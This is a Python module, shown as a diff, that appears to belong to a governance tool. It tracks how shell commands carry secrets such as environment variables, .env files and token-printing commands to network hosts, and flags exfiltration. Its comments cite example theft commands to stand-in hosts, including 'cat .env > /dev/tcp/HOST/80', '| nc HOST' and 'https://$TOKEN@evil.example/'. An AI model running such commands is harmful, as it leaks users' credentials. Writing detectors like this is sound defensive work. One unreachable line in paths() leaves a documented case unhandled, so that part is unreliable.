@@ -1,0 +1,852 @@
+"""Secrets in commands: what a command reads that holds credentials, and which secret it carries
+to which host (docs/shell.md, "Secrets in commands").
+
+Loaded only for a command that may touch a secret (``resolver.flows`` decides cheaply: a word
+that expands a variable, a program that prints the environment or sends its arguments out, an
+argument that names a secret file, input read from a file or fed by an earlier command that read
+one). The analysis asks its path guard (``an.check``) which paths are secret files and which
+variables secret ones; without those questions (a bare ``is_protected`` callable) nothing here
+finds anything.
+
+A ``Flow`` (one per analysed command, ``an.flow``) follows what carries a secret: the variables
+assigned from a secret source, the commands whose output holds one (their text, for the
+substitutions that run them, and the pipe they write into), the files written with one, and the
+git remotes whose URL holds one. A network program that receives any of these, or a secret-shaped
+literal, is ``exfiltration`` unless every secret it carries belongs to every host it reaches
+(``secrets.owners``) or every host is this machine. Secrets are named, never shown: a label is
+``$NAME`` for a variable, the ``secrets.paths`` pattern for a file.
+"""
+
+from __future__ import annotations
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from typing import Any
+
+    from governance.shell.parser import Simple
+    from governance.shell.walk import Walk
+
+NETWORK = ("web-fetch", "local-request", "vcs-push")
+_HEADERS = ("-H", "--header", "--headers", "-h")
+_QUIET = frozenset(("test", "[", "[[", ":", "true", "false", "cd", "unset", "shift", "wait"))
+_DECLARERS = frozenset(("export", "declare", "typeset", "local", "readonly"))
+_COPIERS = frozenset(("cp", "mv", "install", "ginstall", "rsync", "ln", "scp"))
+_FILTERS = frozenset(("grep", "egrep", "fgrep", "rg", "ag", "ack"))
+_AMBIENT = frozenset(("HOME", "PATH", "PWD", "OLDPWD", "USER", "SHELL", "LANG", "TERM", "TMPDIR",
+                      "HOSTNAME", "IFS", "RANDOM", "SECONDS", "LINENO", "UID", "EUID", "PPID"))
+
+Carried = tuple[str, str, str]   # (label, how it got here, where it goes)
+
+
+class Flow:
+    """What carries a secret so far in one command."""
+
+    __slots__ = ("args", "cmds", "files", "pending", "reads", "remotes", "segs", "sourced",
+                 "staged", "vars")
+
+    def __init__(self) -> None:
+        self.vars: dict[str, list[str]] = {}          # variable -> the secrets it holds
+        self.cmds: dict[int, list[str]] = {}          # id(Simple) -> what its output holds
+        self.segs: dict[str, list[str]] = {}          # a segment -> what its output holds
+        self.reads: list[tuple[str, list[str]]] = []  # a command's text -> what its output holds
+        self.files: dict[str, list[str]] = {}         # a file written here -> what it holds
+        self.remotes: dict[str, tuple[list[str], str]] = {}   # git remote -> its URL's secrets, host
+        self.sourced: list[str] = []                  # secret files sourced (not read here)
+        self.pending: dict[int, tuple[str, str]] = {}  # id(Simple) -> a print its reader may hide
+        self.staged: list[str] = []                   # secret files git add staged
+        self.args: dict[int, list[tuple[str, str]]] = {}   # id(Simple) -> xargs -a FILE
+
+
+def flow(an: Walk) -> Flow:
+    if an.flow is None:
+        an.flow = Flow()
+    found: Flow = an.flow
+    return found
+
+
+# --- what the analysis asks --------------------------------------------------------------------
+def secret_file(an: Walk, value: str | None) -> str | None:
+    """The ``secrets.paths`` pattern of the file ``value`` names (relative to the folder the
+    command is in now), else None."""
+    ask = getattr(an.check, "secret_path", None)
+    if ask is None or not value or value == "-" or any(c in value for c in "*?["):
+        return None
+    if an.cwd and not value.startswith(("/", "~")):
+        value = f"{an.cwd}/{value}"
+    found = ask(value)
+    return str(found) if found else None
+
+
+def home(field: str | None, raw: str) -> str | None:
+    """A field, or for one known only at run time a path under the home spelled with ``$HOME``
+    (``"$HOME/.aws/credentials"`` is ``~/.aws/credentials``)."""
+    if field is not None:
+        return field
+    text = raw.replace('"', "")
+    for head in ("$HOME/", "${HOME}/"):
+        if text.startswith(head) and "$" not in text[len(head):] and "`" not in text:
+            return "~/" + text[len(head):]
+    return None
+
+
+def secret_variable(an: Walk, name: str) -> bool:
+    ask = getattr(an.check, "secret_variable", None)
+    return bool(ask is not None and name and ask(name))
+
+
+def paths(field: str | None) -> str | None:
+    """The path an argument may name: itself, ``@FILE``, ``NAME=@FILE``, ``--opt=FILE``."""
+    if not field:
+        return None
+    if field[0] == "@":
+        return field[1:] or None
+    kind, colon, rest = field.partition(":")
+    if colon and kind.upper() in ("FILE", "OPEN", "GOPEN", "CREATE", "READLINE"):
+        return rest.split(",", 1)[0] or None             # socat FILE:.env TCP:host:80
+    for mark in ("=@", "=<"):                            # curl -F x=@f, -F "x=<f"
+        if mark in field:
+            return field.split(mark, 1)[1] or None
+    if "@" in field and field.split("@", 1)[0].isidentifier() and "://" not in field and \
+            ":" not in field:
+        return field.split("@", 1)[1] or None           # httpie: field@FILE
+    if "=" in field and field[0] != "-" and field.split("=", 1)[0].isidentifier():
+        return field.split("=", 1)[1] or None            # dd if=.env
+        return field.split("=", 1)[1] if field[:2] == "--" and "=" in field else None
+    if field[0] == "+":
+        return None
+    return field
+
+
+def references(raw: str) -> list[str]:
+    """The variables ``raw`` (a word's source text) expands, outside single quotes."""
+    names: list[str] = []
+    k, n, double = 0, len(raw), False
+    while k < n:
+        c = raw[k]
+        if c == "\\":
+            k += 2
+            continue
+        if c == '"':
+            double = not double
+        elif c == "'" and not double:
+            end = raw.find("'", k + 1)
+            k = n if end < 0 else end + 1
+            continue
+        elif c == "$" and k + 1 < n:
+            j = k + 1
+            indirect = ""
+            if raw[j] == "{":
+                j += 1
+                indirect = "!" if raw[j:j + 1] == "!" else ""
+                while j < n and raw[j] in "#!":
+                    j += 1
+            start = j
+            while j < n and (raw[j].isalnum() or raw[j] == "_"):
+                j += 1
+            if j > start and not raw[start].isdigit():
+                names.append(indirect + raw[start:j])   # ${!n}: the variable n names
+            k = max(j, k + 1)
+            continue
+        k += 1
+    return names
+
+
+# --- what a word, a file, standard input carries ------------------------------------------------
+def word(an: Walk, raw: str, field: str | None = None) -> list[tuple[str, str]]:
+    """(label, how) for each secret one word carries: a secret variable, a variable assigned
+    from a secret, a substitution whose commands read one, a file written with one."""
+    found: list[tuple[str, str]] = []
+    state = an.flow
+    for name in references(raw):
+        if name[:1] == "!":
+            name = an.vars.get(name[1:]) or ""
+            if not name.isidentifier():
+                continue
+        if state is not None and name in state.vars:
+            found.extend((label, f"through ${name}") for label in state.vars[name])
+        elif secret_variable(an, name):
+            found.append((f"${name}", "environment variable"))
+        elif state is not None and state.sourced and name not in an.vars and \
+                name not in _AMBIENT:
+            found.extend((label, f"through ${name}, which sourcing it set") for label in state.sourced)
+    if state is not None and ("$(" in raw or "`" in raw or "<(" in raw):
+        for text, labels in state.reads:
+            if text and text in raw:
+                found.extend((label, f"the output of `{text}`") for label in labels)
+    if state is not None and state.files:
+        path = paths(field)
+        if path is not None:
+            found.extend((label, f"the file {path}, written with it")
+                         for label in state.files.get(an.where(path), ()))
+    return found
+
+
+def stdin(an: Walk, cmd: Simple | None) -> list[tuple[str, str]]:
+    """(label, how) for each secret a command reads on standard input."""
+    if cmd is None:
+        return []
+    from governance.shell.analysis import word_text
+
+    found: list[tuple[str, str]] = []
+    state = an.flow
+    for redir in cmd.redirs:
+        if redir.op in ("<", "<&") and redir.target is not None:
+            value = home(an.expand_one(redir.target.parts), word_text(redir.target))
+            label = secret_file(an, value)
+            if label is not None:
+                found.append((label, f"the secret file {word_text(redir.target)}"))
+            elif state is not None and value is not None:
+                found.extend((label, f"the file {value}, written with it")
+                             for label in state.files.get(an.where(value), ()))
+        elif redir.op == "<<<" and redir.target is not None:
+            found.extend(word(an, word_text(redir.target)))
+        elif redir.op in ("<<", "<<-") and redir.body:
+            found.extend(word(an, redir.body))
+    if cmd.piped_from is not None and state is not None:
+        source = cmd.piped_from             # bash -c 'cat .env' | nc: what ran inside it
+        found.extend((label, f"the output of `{source.segment}`")
+                     for label in state.cmds.get(id(source), state.segs.get(source.segment, ())))
+    elif cmd.piped and state is not None:
+        found.extend(piped_block(an, cmd))
+    return found
+
+
+# --- one command --------------------------------------------------------------------------------
+def command(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
+            cmd: Simple | None, mark: int = 0, files: bool = True) -> None:
+    """What the command ``fields`` (resolved: its wrappers peeled) reads and carries. ``mark``:
+    the acts before its own (a network act after it makes the command a request); ``files``:
+    whether its arguments name local files."""
+    table = an.shell.get("secret_flow") or {}
+    sub = fields[1] if len(fields) > 1 else None
+    metadata = base in table.get("metadata", ()) or f"{base} {sub}" in table.get("metadata", ())
+    if not metadata and cmd is not None and cmd.words:   # ssh-keygen -t ed25519 -f KEY: a
+        from governance.shell.analysis import word_text  # guess at a command inside it
+
+        written_first = word_text(cmd.words[0]).rsplit("/", 1)[-1]
+        metadata = written_first != base and written_first in table.get("metadata", ())
+    credentials = table.get("credential_options", {}).get(base, ())
+    named: list[Carried] = []       # secret files the arguments name
+    carried: list[Carried] = []     # secrets the words carry
+    option: str | None = None
+    written = _written(base, fields)
+    for k, (field, raw) in enumerate(zip(fields[1:], raws[1:], strict=False), 1):
+        text = raw if field is None else field
+        where = _where(option, text, base, an.shell)
+        used = option in credentials or k in written or text.split("=", 1)[0] in credentials
+        option = text if text[:1] == "-" and "=" not in text else None
+        if files and not metadata and not used and raw not in an.prose:   # not -m TEXT
+            path = paths(field) if field is not None else (
+                home(None, paths(raw.replace('"', "")) or "") or _placeholder(raw))
+            label = secret_file(an, path)
+            if label is not None:
+                named.append((label, f"the secret file {path}", where))
+        carried.extend((label, how, where) for label, how in word(an, raw, field))
+    fed = [(label, how, "on standard input") for label, how in stdin(an, cmd)]
+    if an.flow is not None and cmd is not None and id(cmd) in an.flow.args:   # xargs -a .env
+        named.extend((label, f"the secret file {path}", "in the arguments")
+                     for label, path in an.flow.args[id(cmd)])
+    if metadata and base in _COPIERS and files:     # ln -s .env x; mv .env /tmp/x
+        moved = [f for f in fields[1:] if f is not None and f[:1] != "-"]
+        labels_moved = [secret_file(an, paths(f)) for f in moved[:-1]]
+        if len(moved) > 1 and any(labels_moved):
+            flow(an).files[an.where(moved[-1])] = [lb for lb in labels_moved if lb]
+    printed = _printed(base, fields, table)
+    dumped = _dump(an, base, fields, table) + printed
+    if base == "git" and sub in ("add", "stage"):                # git add .env && git push
+        staged = [secret_file(an, paths(f)) for f in fields[2:]]
+        flow(an).staged.extend(label for label in staged if label is not None)
+    state = an.flow
+    if base == "git" and sub == "push" and state is not None and state.staged:
+        carried.extend((label, "a secret file committed in this command", "in the commits")
+                       for label in state.staged)
+    if base == "git" and state is not None and state.remotes and len(fields) > 2 and \
+            fields[2] in state.remotes:              # git push origin: origin's URL holds it
+        carried.extend((label, f"the URL of the remote {fields[2]}", "in the remote's URL")
+                       for label in state.remotes[str(fields[2])][0])
+    hosts, sink, connection = _sink(an, base, fields, raws, seg, cmd, table, mark)
+    everything = [*named, *carried, *fed]
+    if connection:                               # cat .env > /dev/tcp/HOST/80
+        everything = [(label, how, "through the connection") for label, how, _w in everything]
+    source = cmd.piped_from if cmd is not None else None
+    hides = sink or metadata or base not in _READING_PROGRAMS
+    if state is not None and source is not None and id(source) in state.pending and (
+            hides or _filtered(an, base, cmd)):
+        _hide(an, *state.pending.pop(id(source)))   # env | grep PATH, echo $T | docker login
+    if state is not None and state.pending and hides:     # curl -H "$(gh auth token)" ...
+        feeding = {c[1][len("the output of `"):-1] for c in carried
+                   if c[1].startswith("the output of `")}
+        for key, (pseg, _reason) in list(state.pending.items()):
+            if pseg in feeding:
+                _hide(an, *state.pending.pop(key))
+    if sink:
+        fed_text = [source.segment] if source is not None else []   # echo KEY | nc HOST
+        fed_text += [r.body or "" for r in cmd.redirs] if cmd is not None else []
+        shaped = _shaped(raws) + [(label, how, "on standard input")
+                                  for label, how, _w in _shaped(["", *fed_text])]
+        everything.extend(shaped)
+        _exfiltration(an, base, seg, everything, hosts)
+        if printed:                               # gh auth token: it prints, it sends nothing
+            _reading(an, base, seg, cmd, [], [], [], printed, metadata)
+    else:
+        redirected = [c for c in fed if c[1].startswith("the secret file")]   # jq . < .env
+        _reading(an, base, seg, cmd, [*named, *redirected], carried, fed, dumped, metadata)
+    labels = list(dict.fromkeys([*(c[0] for c in everything), *dumped]))
+    if not labels:
+        return
+    _remember(an, base, fields, raws, seg, cmd, labels, named)
+
+
+def _written(base: str, fields: list[str | None]) -> set[int]:
+    """The arguments a program writes, not reads: ``tee FILE``, a copy's destination."""
+    positional = [k for k, f in enumerate(fields) if k and f is not None and f[:1] != "-"]
+    if base == "tee":
+        return set(positional)
+    if base in _COPIERS and len(positional) > 1 and ":" not in str(fields[positional[-1]]):
+        return {positional[-1]}
+    return set()
+
+
+def _where(option: str | None, text: str, base: str, shell: dict[str, Any]) -> str:
+    """Where in a request an argument goes (``-H``: a header)."""
+    if option is None and text[:2] == "--" and "=" in text:
+        option = text.split("=", 1)[0]
+    if option is not None:
+        if option[:2] != "--" and len(option) > 2:    # -sH VALUE: the last letter takes it
+            option = "-" + option[-1]
+        if option in _HEADERS:
+            return "in a header"
+        spec = (shell.get("commands") or {}).get(base) or {}
+        if option in ((spec.get("requests") or {}).get("body_options") or ()):
+            return "in the body"
+        return f"as {option}"
+    return "in the URL" if "://" in text else "in the arguments"
+
+
+def _dump(an: Walk, base: str, fields: list[str | None], table: dict[str, Any]) -> list[str]:
+    """The secrets a program that prints variables shows: the environment, or the named ones."""
+    listed = table.get("dumps", {}).get(base)
+    if listed is None:
+        return []
+    options = [f for f in fields[1:] if f is None or f[:1] in "-+"]
+    names = [f for f in fields[1:] if f is not None and f[:1] not in "-+"]
+    if names:
+        if base == "set" or (base != "printenv" and not any(o in listed for o in options)):
+            return []                           # set -- a b, export X=1: no printing
+        return [f"${n}" for n in names if secret_variable(an, n.split("=", 1)[0])]
+    if not options or any(o in listed for o in options):
+        return ["the environment"]
+    return []
+
+
+def _printed(base: str, fields: list[str | None], table: dict[str, Any]) -> list[str]:
+    """``gh auth token``, ``aws configure get ...``: a command that prints a credential, as the
+    variable it counts as (``secret_flow.secret_commands``)."""
+    lines = table.get("secret_commands", {}).get(base)
+    if not lines:
+        return []
+    for words in ([f for f in fields if f is not None],
+                  [f for f in fields if f is not None and f[:1] != "-"]):
+        words[0] = base
+        for k in range(min(len(words), 6), 1, -1):
+            name = lines.get(" ".join(words[:k]))
+            if name is not None:
+                return [f"${name}"]
+    return []
+
+
+def _sink(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
+          cmd: Simple | None, table: dict[str, Any], mark: int
+          ) -> tuple[list[str], bool, bool]:
+    """The hosts a network program reaches ("?" for one known only at run time), whether the
+    command is one, and whether only through a ``/dev/tcp`` redirection."""
+
+    hosts: list[str] = []
+    for redir in cmd.redirs if cmd is not None else ():
+        if redir.target is not None and redir.op in (">", ">>", "<", "<>", "&>", ">|"):
+            value = an.expand_one(redir.target.parts)
+            if value is not None and value.startswith(("/dev/tcp/", "/dev/udp/")):
+                hosts.append(value.split("/")[3] or "?" if value.count("/") >= 3 else "?")
+    dns = base in table.get("sinks", ())
+    spec = (an.shell.get("commands") or {}).get(base) or {}
+    network = [a for a in an.acts[mark:] if a.primitive in NETWORK]
+    if not network and spec.get("requests"):       # a second request in one segment
+        network = [an.seen[(p, seg)] for p in NETWORK if (p, seg) in an.seen]
+    if not hosts and not dns and not network:
+        return [], False, False
+    connection = not dns and not network
+    default = table.get("default_hosts", {}).get(base)
+    if default is not None:                     # gh pr list: api.github.com
+        login = fields.index("login") if "login" in fields else len(fields)
+        named = [_named(field, field) for k, field in enumerate(fields[1:], 1)
+                 if field is not None and ("://" in field or (k > login and _dotted(an, field)))]
+        hosts.extend(named or [default])     # docker login evil.example: that registry alone
+    elif spec.get("requests"):
+        from governance.shell.rules import parse_spec
+
+        for url, raw in _urls(spec["requests"], parse_spec(spec, fields[1:], raws[1:])):
+            hosts.append(_named(url, raw))
+    else:
+        for field, raw in zip(fields[1:], raws[1:], strict=False):
+            text = raw if field is None else field
+            if text[:1] in ("-", "+", "@"):
+                continue
+            host = _host(text, field, dns)
+            if host is not None:
+                hosts.append(host)
+    if base == "git" and an.flow is not None and len(fields) > 2 and \
+            str(fields[2]) in an.flow.remotes:
+        hosts.append(an.flow.remotes[str(fields[2])][1])
+    hosts = list(dict.fromkeys(hosts)) or ["?"]
+    for act in network:
+        act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
+    return hosts, True, connection
+
+
+def _urls(spec: dict[str, Any], argv: Any) -> list[tuple[str | None, str]]:
+    """The URLs a request names (value, source text), as ``endpoint.request`` reads them."""
+    from governance.shell.endpoint import METHODS, socat_host
+
+    urls: list[tuple[str | None, str]] = []
+    for option in spec.get("url_options") or ():
+        urls.extend(argv.values.get(option, ()))
+    positionals: list[tuple[str | None, str]] = list(argv.positionals)
+    layout = spec.get("urls", "all")
+    if layout == "httpie":
+        if len(positionals) > 1 and positionals[0][0] is not None and \
+                str(positionals[0][0]).upper() in METHODS:
+            positionals = positionals[1:]
+        urls.extend(positionals[:1])
+    elif layout == "host":
+        urls.extend(positionals[:1])
+    elif layout == "socat":
+        for value, raw in positionals:
+            if value is None or socat_host(value):
+                urls.append((None if value is None else socat_host(value), raw))
+    else:
+        urls.extend(positionals)
+    return urls
+
+
+def _dotted(an: Walk, field: str) -> bool:
+    """A bare word that reads as a host name (``docker login evil.example``), not a file."""
+    from governance import system
+
+    labels = field.split(".")
+    if len(labels) < 2 or not labels[-1].isalpha() or not all(labels) or \
+            not all(c.isalnum() or c in ".-" for c in field):
+        return False
+    folder = an.folder()
+    return folder is None or not system.exists(system.join(folder, field))
+
+
+def _named(value: str | None, raw: str) -> str:
+    """The host a URL names; when it is only known at run time, the host its text spells
+    around the expansions (``https://$TOKEN@evil.example/``), else "?"."""
+    from governance.shell.endpoint import host_of
+
+    host = host_of(value) if value is not None else host_of(raw.replace('"', "").replace("'", ""))
+    return host if host else "?"
+
+
+def _host(text: str, field: str | None, dns: bool) -> str | None:
+    """The host one argument of a network program names: a URL's, ``user@host:path``'s, a DNS
+    name (with an expansion in front, the literal domain after it)."""
+
+    if "://" in text:
+        return _named(field, text)
+    if field is not None and ":" in field and "/" not in field.split(":", 1)[0]:
+        return field.split(":", 1)[0].rsplit("@", 1)[-1].lower() or "?"   # scp f host:path
+    if field is not None and "@" in field and "." in field.rsplit("@", 1)[1]:
+        return field.rsplit("@", 1)[1].lower()
+    if dns:
+        if field is not None:
+            return field.lower().rstrip(".") if "." in field else None
+        tail = text.rsplit(")", 1)[-1].rsplit("}", 1)[-1].rsplit("`", 1)[-1].strip("\"'")
+        if "$" in tail:                         # $TOKEN.evil.example: the name after it
+            tail = tail.rsplit("$", 1)[1].lstrip("{")
+            tail = tail[next((k for k, c in enumerate(tail) if not (c.isalnum() or c == "_")),
+                             len(tail)):]
+        return tail.strip(".").lower() if "." in tail and "$" not in tail else "?"
+    return None
+
+
+def _shaped(raws: list[str]) -> list[Carried]:
+    """Secret-shaped literals in a network command's words (the ledger's redaction screen)."""
+    from governance.ledger.redaction import kinds
+
+    found: list[Carried] = []
+    for raw in raws[1:]:
+        for kind in kinds(_literal(raw)):
+            found.append((f"a literal {kind}", "written in the command", "in the arguments"))
+    return found
+
+
+def _placeholder(raw: str) -> str | None:
+    """A path whose expansions are known only at run time, each read as one folder name
+    (``"$DIR/.env"``, ``/proc/$$/environ``): a secret file's name still shows."""
+    text = _literal(raw.replace('"', "").replace("'", ""), "x")
+    return paths(text) if text and " " not in text else None
+
+
+def _literal(raw: str, stand_in: str = " ") -> str:
+    """A word's text without its expansions (``k=${TOKEN:-none}`` is ``k= ``)."""
+    if "$" not in raw and "`" not in raw:
+        return raw
+    out: list[str] = []
+    k, n = 0, len(raw)
+    while k < n:
+        c = raw[k]
+        if c in "$`":
+            close = {"{": "}", "(": ")"}.get(raw[k + 1:k + 2]) if c == "$" else "`"
+            if close is not None:
+                end = raw.find(close, k + 2 if c == "$" else k + 1)
+                k = n if end < 0 else end + 1
+            else:
+                k += 1
+                while k < n and (raw[k].isalnum() or raw[k] == "_"):
+                    k += 1
+            out.append(stand_in)
+            continue
+        out.append(c)
+        k += 1
+    return "".join(out)
+
+
+def _exfiltration(an: Walk, base: str, seg: str, carried: list[Carried],
+                  hosts: list[str]) -> None:
+    """An ``exfiltration`` act for the secrets a request carries that are not its hosts' own,
+    unless every host is this machine."""
+    if not carried:
+        return
+    from governance.shell.endpoint import is_local
+
+    local = an.shell.get("local_hosts", ())
+    if all(h != "?" and is_local(h, local) for h in hosts):
+        return                                    # loopback: local-request says it already
+    owns = getattr(an.check, "owns", None)
+    out: list[Carried] = []
+    for label, how, where in carried:
+        name = label[1:] if label[:1] == "$" else label
+        if owns is not None and all(h != "?" and owns(name, h) for h in hosts):
+            continue
+        if not any(c[0] == label for c in out):
+            out.append((label, how, where))
+    if not out:
+        return
+    target = ", ".join(hosts) if hosts != ["?"] else "a host known only at run time"
+    parts = [f"{label} ({how}) to {target} {where}" for label, how, where in out[:3]]
+    an.add("exfiltration", seg, _named_only(f"{base} carries " + "; ".join(parts) +
+                                            (" and more" if len(out) > 3 else "")))
+    act = an.seen[("exfiltration", seg)]
+    act.secrets = list(dict.fromkeys([*(act.secrets or ()), *(c[0] for c in out)]))
+    act.hosts = list(dict.fromkeys([*(act.hosts or ()), *hosts]))
+
+
+def _reading(an: Walk, base: str, seg: str, cmd: Simple | None, named: list[Carried],
+             carried: list[Carried], fed: list[Carried], dumped: list[str],
+             metadata: bool) -> None:
+    """``secret-read`` for a program that shows a secret file, the environment, or a secret
+    variable it is given."""
+    if named:
+        files = ", ".join(dict.fromkeys(f"{c[1].rsplit(' ', 1)[-1]}" for c in named))
+        labels = list(dict.fromkeys(c[0] for c in named))
+        _read(an, seg, f"{base} reads {files}, which holds credentials (secrets.paths: "
+                       f"{', '.join(labels)})", labels)
+    shown = [c for c in [*carried, *fed] if c[1] == "environment variable" or
+             c[1].startswith("the file ")]       # echo $TOKEN, cat /tmp/x written with it
+    secret_vars = [c[0] for c in shown]
+    if dumped or (secret_vars and base not in _QUIET and base not in _DECLARERS and
+                  base in _READING_PROGRAMS and not (cmd is not None and _redirected(an, cmd))):
+        labels = list(dict.fromkeys([*dumped, *secret_vars]))
+        what = "the environment, where secret variables live" if "the environment" in labels \
+            else ", ".join(labels)
+        reason = f"{base} prints {what}"
+        _read(an, seg, reason, labels)
+        if cmd is not None and not _redirected(an, cmd):
+            flow(an).pending[id(cmd)] = (seg, reason)
+
+
+def compound(an: Walk, value: str | None, raw: str, seg: str, cmd: Simple) -> None:
+    """``while read l; do ...; done < .env``: the block's input is a secret file. The commands
+    inside were read before the redirection: each request among them carries it."""
+    label = secret_file(an, home(value, raw))
+    if label is None:
+        return
+    _read(an, seg, f"the commands read {raw}, which holds credentials (secrets.paths: "
+                   f"{label})", [label])
+    flow(an).reads.append((seg, [label]))            # "$(< .env)" is its content
+    start = _block(cmd.text, cmd.start)
+    if start is None:
+        return
+    inside = cmd.text[start:cmd.start]
+    for act in list(an.acts):
+        if act.primitive in NETWORK and act.segment and act.segment in inside:
+            _exfiltration(an, act.segment.split()[0], act.segment,
+                          [(label, f"the secret file {raw}", "on the block's input")],
+                          act.hosts or ["?"])
+
+
+def _block(text: str, end: int) -> int | None:
+    """Where the block (``{ ...; }``, ``( ... )``, a ``while``/``until``/``for`` loop) that ends
+    just before ``end`` starts, when its text can be read back; else None."""
+    k = len(text[:end].rstrip())
+    closer = text[k - 1:k] if k else ""
+    if closer in ("}", ")"):
+        opener, depth = {"}": "{", ")": "("}[closer], 0
+        for j in range(k - 1, -1, -1):
+            if text[j] == closer:
+                depth += 1
+            elif text[j] == opener:
+                depth -= 1
+                if depth == 0:
+                    return j
+        return None
+    if text[:k].endswith("done"):
+        starts = [text.rfind(w, 0, k) for w in ("while ", "until ", "for ")]
+        found = max(starts)
+        return found if found >= 0 else None
+    return None
+
+
+def piped_block(an: Walk, cmd: Simple) -> list[tuple[str, str]]:
+    """``{ cat .env; } | nc HOST``: what the block a command reads from through a pipe read."""
+    state = an.flow
+    if state is None:
+        return []
+    bar = cmd.text.rfind("|", 0, cmd.start)
+    start = _block(cmd.text, bar) if bar > 0 else None
+    if start is None:
+        return []
+    inside = cmd.text[start:bar]
+    return [(label, f"the output of `{text}`") for text, labels in state.reads
+            if text and text in inside for label in labels]
+
+
+def _named_only(reason: str) -> str:
+    """A reason with any secret-shaped value in the command text it quotes masked: secrets
+    are named, never shown."""
+    from governance.ledger.redaction import redact
+
+    return redact(reason)
+
+
+def _read(an: Walk, seg: str, reason: str, labels: list[str]) -> None:
+    reason = _named_only(reason)
+    an.add("secret-read", seg, reason)
+    act = an.seen[("secret-read", seg)]
+    act.secrets = list(dict.fromkeys([*(act.secrets or ()), *labels]))
+
+
+def _hide(an: Walk, seg: str, reason: str) -> None:
+    """A print that reaches a program that shows nothing of it, or only lines without secrets."""
+    act = an.seen.get(("secret-read", seg))
+    if act is not None and act.reason.startswith(reason):
+        del an.seen[("secret-read", seg)]
+        an.acts.remove(act)
+
+
+def _filtered(an: Walk, base: str, cmd: Simple | None) -> bool:
+    """``env | grep PATH``: a filter keeping the lines a plain word matches, one that names no
+    secret variable (a name may hold it: ``PATH``, not ``KEY``)."""
+    if base not in _FILTERS or cmd is None:
+        return False
+    fields, _globs, _raws = an.expand_words(cmd.words)
+    if any(f is None or f in ("-v", "--invert-match", "-f", "-e") for f in fields[1:]):
+        return False
+    words = [f for f in fields[1:] if f is not None and f[:1] != "-"]
+    if len(words) != 1:
+        return False
+    pattern = words[0].strip("^$")
+    names = getattr(an.check, "names_secret", None)
+    return bool(pattern) and all(c.isalnum() or c == "_" for c in pattern) and \
+        names is not None and not names(pattern)
+
+
+def _redirected(an: Walk, cmd: Simple) -> bool:
+    """Whether the command's output goes to a file, not to the agent."""
+    from governance.shell.analysis import word_text
+
+    return any(r.op in (">", ">>", ">|", "&>", "&>>") and r.target is not None and
+               word_text(r.target) not in ("/dev/stdout", "/dev/stderr", "/dev/tty")
+               for r in cmd.redirs)
+
+
+# programs that show what they read or are given (besides the read_only list)
+_READING_PROGRAMS = frozenset((
+    "cat", "tac", "head", "tail", "less", "more", "bat", "grep", "egrep", "fgrep", "rg", "ag",
+    "ack", "sed", "awk", "gawk", "mawk", "cut", "tr", "sort", "uniq", "base64", "base32", "xxd",
+    "od", "hexdump", "strings", "tee", "echo", "printf", "print", "rev", "nl", "column", "fold",
+    "paste", "jq", "yq", "diff", "cmp", "comm", "iconv", "xargs", "printenv", "env", "set",
+    "export", "declare", "typeset", "compgen", "readonly", "zcat", "gzip", "bzip2", "xz",
+    "openssl", "gpg", "tar", "zip", "7z", "cp", "rsync", "dd", "vim", "vi", "nano", "emacs",
+    "code", "view", "source", ".", "python", "python3", "node", "ruby", "perl", "php"))
+
+
+def _remember(an: Walk, base: str, fields: list[str | None], raws: list[str], seg: str,
+              cmd: Simple | None, labels: list[str], named: list[Carried]) -> None:
+    """What later commands may read of this one: its output, the files and variables it
+    wrote, a git remote's URL."""
+    state = flow(an)
+    state.segs[seg] = list(dict.fromkeys([*state.segs.get(seg, ()), *labels]))
+    if cmd is not None:
+        state.cmds[id(cmd)] = labels
+        state.reads.append((cmd.segment, labels))
+        for redir in cmd.redirs:
+            if redir.op in (">", ">>", ">|", "&>", "&>>") and redir.target is not None:
+                value = an.expand_one(redir.target.parts)
+                if value is not None:
+                    state.files[an.where(value)] = labels
+        if base in ("source", ".") and named:
+            state.sourced.extend(c[0] for c in named if c[0] not in state.sourced)
+        if base == "read" or base in ("mapfile", "readarray"):
+            for field in fields[1:]:
+                if field is not None and field[:1] != "-" and field.isidentifier():
+                    state.vars[field] = labels
+    positional = [f for f in fields[1:] if f is not None and f[:1] != "-"]
+    if base == "tee":
+        for path in positional:
+            state.files[an.where(path)] = labels
+    elif base in _COPIERS and len(positional) > 1:
+        state.files[an.where(positional[-1])] = labels
+    elif base in _DECLARERS:
+        for field, raw in zip(fields[1:], raws[1:], strict=False):
+            name = (raw if field is None else field).split("=", 1)[0]
+            if "=" in raw and name.isidentifier() and word(an, raw.split("=", 1)[1]):
+                state.vars[name] = [c[0] for c in word(an, raw.split("=", 1)[1])]
+    elif base == "git" and len(fields) > 4 and fields[1] == "remote" and \
+            fields[2] in ("add", "set-url") and fields[3] is not None:
+        state.remotes[str(fields[3])] = (labels, _named(fields[4], raws[4]))
+
+
+def argument_file(an: Walk, fields: list[str | None], cmd: Simple) -> None:
+    """``xargs -a FILE CMD``: CMD's arguments are the lines of FILE."""
+    for k, field in enumerate(fields[1:], 1):
+        if field is None:
+            continue
+        path = fields[k + 1] if field in ("-a", "--arg-file") and k + 1 < len(fields) else \
+            field.split("=", 1)[1] if field.startswith("--arg-file=") else \
+            field[2:] if field.startswith("-a") and len(field) > 2 else None
+        label = secret_file(an, path)
+        if label is not None:
+            flow(an).args[id(cmd)] = [(label, str(path))]
+
+
+def loop(an: Walk, name: str) -> None:
+    """``for NAME in WORDS``: NAME holds the secret files among the values it takes, and what
+    the words' substitutions and variables carry."""
+    from governance.shell.loops import UNKNOWN
+
+    found: list[str] = []
+    for value in an.loops.get(name, ()):
+        if value.startswith(UNKNOWN):
+            found.extend(label for label, _how in word(an, value[len(UNKNOWN):]))
+        else:
+            label = secret_file(an, value)
+            if label is not None:
+                found.append(label)
+    if found:
+        flow(an).vars[name] = list(dict.fromkeys(found))
+    elif an.flow is not None:
+        an.flow.vars.pop(name, None)
+
+
+def assign(an: Walk, name: str, raw: str) -> None:
+    """``NAME=VALUE``: NAME holds the secrets VALUE carries (or, in a secret file the command
+    sources, whatever it is given)."""
+    found = [label for label, _how in word(an, raw)]
+    if an.origin:
+        label = secret_file(an, an.origin)
+        if label is not None:
+            found.append(label)
+    state = an.flow
+    if found:
+        flow(an).vars[name] = list(dict.fromkeys(found))
+    elif state is not None:
+        state.vars.pop(name, None)
+
+
+# --- inline code ---------------------------------------------------------------------------------
